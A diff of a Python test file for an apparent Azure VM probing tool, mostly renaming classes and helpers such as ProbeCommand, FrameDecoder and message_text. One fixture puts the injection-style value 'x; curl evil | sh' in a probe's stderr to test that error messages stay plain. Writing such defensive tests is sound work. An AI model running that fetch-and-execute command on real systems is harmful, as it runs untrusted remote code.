@@ -14,13 +14,13 @@ from plugins.azure.discovery import FleetError, from_resources
 from plugins.azure.normalize import in_shape
 from plugins.azure.snapshot import AzureSnapshot
 from plugins.checks.check import OnVm
-from plugins.checks.probe import Planned
-from plugins.core.sanitize import harmless
-from plugins.gather.frames import Decoder
-from plugins.gather.script import PLACES, compile_batch
+from plugins.checks.probe import ProbeCommand
+from plugins.core.sanitize import message_text
+from plugins.gather.frames import FrameDecoder
+from plugins.gather.script import PLACES, compile_script
 from plugins.inventory.selection import InventoryError, load
 from plugins.judge.evaluate import value
-from plugins.model import Evidence, Seen, Session, Status, Vm
+from plugins.model import Evidence, ProbeResult, SshSession, Status, Vm
 from plugins.ssh.config import SshConfig
 from suites.agent import Logs, _seconds
 from suites.environment import _read_written
@@ -32,11 +32,11 @@ from tests.support.catalogue import ROWS
 from tests.support.suite_rows import seen
 from tests.support.vm_text import PROBES, guest_checks
 
-BATCH = compile_batch([Planned("a", "true", 1, False, (), 16)], nonce="N0NCE")
+BATCH = compile_script([ProbeCommand("a", "true", 1, False, (), 16)], nonce="N0NCE")
 
 
-def decoded(frame: bytes) -> Decoder:
-    decoder = Decoder(BATCH, clock=lambda: 1000.0)
+def decoded(frame: bytes) -> FrameDecoder:
+    decoder = FrameDecoder(BATCH, clock=lambda: 1000.0)
     decoder.feed(frame)
     return decoder
 
@@ -112,7 +112,7 @@ def test_a_proxy_that_urlsplit_refuses_is_a_wrong_one() -> None:
 
 def test_a_missing_tool_is_named_by_one_plain_word() -> None:
     evidence = Evidence(
-        Vm("a"), Session("ok"), {"healthz": Seen("healthz", "", "no tool", stderr="x; curl evil | sh\n")}
+        Vm("a"), SshSession("ok"), {"healthz": ProbeResult("healthz", "", "no tool", stderr="x; curl evil | sh\n")}
     )
     with pytest.raises(Exception, match=r"^curl is not installed on the VM, or not on its PATH"):
         value(PROBES["healthz"], "healthz", evidence)
@@ -217,8 +217,8 @@ def test_the_home_of_a_user_who_is_not_there_is_no_traceback(tmp_path: Path) -> 
     ],
 )
 def test_a_message_is_harmless_to_whoever_prints_it(said: str, shown: str | None) -> None:
-    assert harmless(said) == shown if shown else "hunter22" not in harmless(said)
+    assert message_text(said) == shown if shown else "hunter22" not in message_text(said)
 
 
 def test_a_message_is_not_endless() -> None:
-    assert len(harmless("x" * 100_000)) == 4000
+    assert len(message_text("x" * 100_000)) == 4000
